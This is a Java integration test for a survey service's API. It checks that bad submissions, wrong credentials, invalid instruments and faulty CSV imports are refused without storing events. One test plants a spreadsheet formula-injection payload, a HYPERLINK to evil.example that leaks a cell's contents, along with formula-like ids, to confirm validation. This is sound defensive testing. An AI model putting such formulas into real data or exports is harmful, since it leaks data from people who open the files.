package org.haven.survey.it;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Bad input never changes state: every refusal answers 4xx with a problem detail naming the problem, and
 * the event store holds exactly as many events afterwards as before (counted with plain JDBC).
 */
class RejectionFlowIT extends ServiceTestSupport {

    @DynamicPropertySource
    static void database(DynamicPropertyRegistry registry) {
        TestDatabase.register(registry);
        researcherAccount(registry);
    }

    private String studyId;
    private String token;

    @BeforeEach
    void studyWithOneParticipant() {
        Instant past = Instant.now().minus(30, ChronoUnit.DAYS);
        studyId = createStudy(false, "[{\"type\":\"always\"},{\"type\":\"absolute\",\"opensAt\":\"" + past
                + "\",\"closesAt\":\"" + past.plus(7, ChronoUnit.DAYS) + "\"}]");
        token = enroll(studyId).token();
    }

    @Test
    void submissions_that_break_a_rule_are_refused_naming_the_field() {
        refused(422, "answers.respect_1", () -> submit("{\"submissionId\":\"a\",\"wave\":1,\"answers\":{\"respect_1\":8}}"));
        refused(422, "answers.respect_1", () -> submit("{\"submissionId\":\"a\",\"wave\":1,\"answers\":{\"respect_1\":0}}"));
        refused(422, "answers.no_such_item", () -> submit("{\"submissionId\":\"a\",\"wave\":1,\"answers\":{\"no_such_item\":3}}"));
        refused(422, "\"answers\"", () -> submit("{\"submissionId\":\"a\",\"wave\":1,\"answers\":{}}"));
        refused(422, "\"wave\"", () -> submit("{\"submissionId\":\"a\",\"wave\":9,\"answers\":{\"respect_1\":3}}"));
        refused(422, "\"wave\"", () -> submit("{\"submissionId\":\"a\",\"wave\":2,\"answers\":{\"respect_1\":3}}"));
        refused(422, "submissionId", () -> submit("{\"wave\":1,\"answers\":{\"respect_1\":3}}"));
        refused(422, "instrumentVersion", () -> submit(
                "{\"submissionId\":\"a\",\"wave\":1,\"instrumentId\":\"esti\",\"instrumentVersion\":7,\"answers\":{\"respect_1\":3}}"));
    }

    @Test
    void malformed_or_mistyped_json_is_refused_naming_the_field() {
        refused(400, "not valid JSON", () -> submit("{\"submissionId\":\"a\",\"wave\":1,"));
        refused(400, "\"wave\"", () -> submit("{\"submissionId\":\"a\",\"wave\":\"first\",\"answers\":{\"respect_1\":3}}"));
        refused(400, "answers.respect_1", () -> submit("{\"submissionId\":\"a\",\"wave\":1,\"answers\":{\"respect_1\":\"five\"}}"));
        refused(400, "answers.respect_1", () -> submit("{\"submissionId\":\"a\",\"wave\":1,\"answers\":{\"respect_1\":4.5}}"));
        refused(400, "nickname", () -> submit("{\"submissionId\":\"a\",\"wave\":1,\"answers\":{\"respect_1\":3},\"nickname\":\"x\"}"));
        refused(422, "comment", () -> submit("{\"submissionId\":\"a\",\"wave\":1,\"answers\":{\"respect_1\":3},\"comment\":\""
                + "x".repeat(2001) + "\"}"));
        refused(422, "contactEmail", () -> api.postJson("/api/studies/" + studyId + "/participants", researcher(),
                "{\"consentFormVersion\":\"v1\",\"contactEmail\":\"not-an-address\"}"));
    }

    @Test
    void wrong_credentials_are_refused_without_saying_who_exists() {
        String body = "{\"submissionId\":\"a\",\"wave\":1,\"answers\":{\"respect_1\":3}}";
        var wrong = refused(401, "participant token", () -> api.postJson("/api/participant/submissions",
                ApiClient.bearer("not-a-token"), body));
        var none = refused(401, "participant token", () -> api.postJson("/api/participant/submissions", null, body));
        assertThat(wrong.body()).isEqualTo(none.body());
        refused(401, "researcher credentials", () -> api.get("/api/studies/" + studyId + "/progress",
                ApiClient.basic(RESEARCHER, "wrong password")));
        refused(401, "researcher credentials", () -> api.get("/api/studies/" + studyId + "/progress",
                ApiClient.bearer(token)));
    }

    @Test
    void researcher_requests_that_break_a_rule_are_refused_naming_the_field() {
        refused(422, "title", () -> api.postJson("/api/studies", researcher(), "{\"title\":\" \",\"waves\":[{\"type\":\"always\"}]}"));
        refused(422, "waves", () -> api.postJson("/api/studies", researcher(), "{\"title\":\"t\",\"waves\":[]}"));
        refused(400, "waves[0]", () -> api.postJson("/api/studies", researcher(),
                "{\"title\":\"t\",\"waves\":[{\"type\":\"absolute\",\"opensAt\":\"2027-02-01T00:00:00Z\",\"closesAt\":\"2027-01-01T00:00:00Z\"}]}"));
        refused(400, "waves[0]", () -> api.postJson("/api/studies", researcher(),
                "{\"title\":\"t\",\"waves\":[{\"type\":\"weekly\"}]}"));
        refused(422, "consentFormVersion", () -> api.postJson("/api/studies/" + studyId + "/participants",
                researcher(), "{\"consentFormVersion\":\"\"}"));
        refused(404, "does not exist", () -> api.postJson("/api/studies/no-such-study/participants", researcher(),
                "{\"consentFormVersion\":\"v1\"}"));
        refused(404, "no built-in instrument", () -> api.post("/api/studies/" + studyId + "/instruments/builtin/nope",
                researcher(), "application/json", new byte[0]));
        String esti = api.get("/api" + ESTI_PATH, researcher()).body();
        refused(409, "already published with different content", () -> api.postJson(
                "/api/studies/" + studyId + "/instruments", researcher(), esti.replace("My partner", "Your partner")));
        refused(422, "instrument", () -> api.postJson("/api/studies/" + studyId + "/instruments", researcher(),
                esti.replace("\"version\" : 1", "\"version\" : 2").replace("\"version\":1", "\"version\":2")
                        .replaceFirst("\"text\"\\s*:\\s*\"[^\"]*\"", "\"text\":\"\"")));
    }

    @Test
    void an_instrument_whose_ids_are_not_variable_names_is_refused_naming_each_id() throws Exception {
        // A formula as an id would reach every dataset as a cell and a column name; texts may say anything (the
        // batch writes them so that no spreadsheet runs them), ids may not.
        ObjectNode instrument = (ObjectNode) new ObjectMapper().readTree(api.get("/api" + ESTI_PATH, researcher()).body());
        instrument.put("version", 2);
        ObjectNode firstItem = (ObjectNode) instrument.withArray("items").get(0);
        firstItem.put("id", "=1+1");
        firstItem.put("text", "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")");
        ((ObjectNode) instrument.withArray("composites").get(0)).put("id", "@safety");

        var response = refused(422, "items[0].id", () -> api.postJson("/api/studies/" + studyId + "/instruments",
                researcher(), instrument.toString()));

        List<String> errors = new ArrayList<>();
        response.json().get("errors").forEach(error -> errors.add(error.get("field").asText() + ": "
                + error.get("message").asText()));
        assertThat(errors).containsExactly(
                "items[0].id: item id '=1+1' must start with a letter and contain only letters, digits and _",
                "composites[0].id: composite id '@safety' must start with a letter and contain only letters, digits and _");
        var study = api.get("/api/studies/" + studyId, researcher()).json();
        assertThat(study.at("/currentInstrument/version").asInt()).isEqualTo(1);
        assertThat(study.get("instruments")).hasSize(1);
    }

    @Test
    void import_files_with_a_file_level_fault_store_nothing() {
        refused(415, "", () -> api.post(imports(), researcher(), "application/json", "{}".getBytes(StandardCharsets.UTF_8)));
        refused(400, "missing column 'value'", () -> api.post(imports(), researcher(), "text/csv",
                "participant_ref,wave,item_id\nP1,1,respect_1\n".getBytes(StandardCharsets.UTF_8)));
        refused(400, "not UTF-8", () -> api.post(imports(), researcher(), "text/csv",
                "participant_ref,wave,item_id,value\nJos\u00e9,1,respect_1,3\n".getBytes(StandardCharsets.ISO_8859_1)));
        refused(400, "empty", () -> api.post(imports(), researcher(), "text/csv", new byte[0]));
        byte[] large = ("participant_ref,wave,item_id,value\n" + "P1,1,respect_1,3\n".repeat(2000))
                .getBytes(StandardCharsets.UTF_8);
        refused(413, "larger than the import limit", () -> api.post(imports(), researcher(), "text/csv", large));
        refused(422, "outside the scale", () -> api.post(imports(), researcher(), "text/csv",
                "participant_ref,wave,item_id,value\nP1,1,respect_1,9\n".getBytes(StandardCharsets.UTF_8)));
    }

    private String imports() {
        return "/api/studies/" + studyId + "/imports";
    }

    private ApiClient.Response submit(String json) {
        return api.postJson("/api/participant/submissions", ApiClient.bearer(token), json);
    }

    private ApiClient.Response refused(int status, String named, Supplier<ApiClient.Response> request) {
        long before = eventCount();
        ApiClient.Response response = request.get();
        assertThat(response.status()).as(response.body()).isEqualTo(status);
        assertThat(response.contentType()).as(response.body()).startsWith(status == 422 && response.body().contains("\"stored\"")
                ? "application/json" : "application/problem+json");
        assertThat(response.body()).contains(named);
        assertThat(eventCount()).as("events stored by a refused request: " + response.body()).isEqualTo(before);
        return response;
    }
}
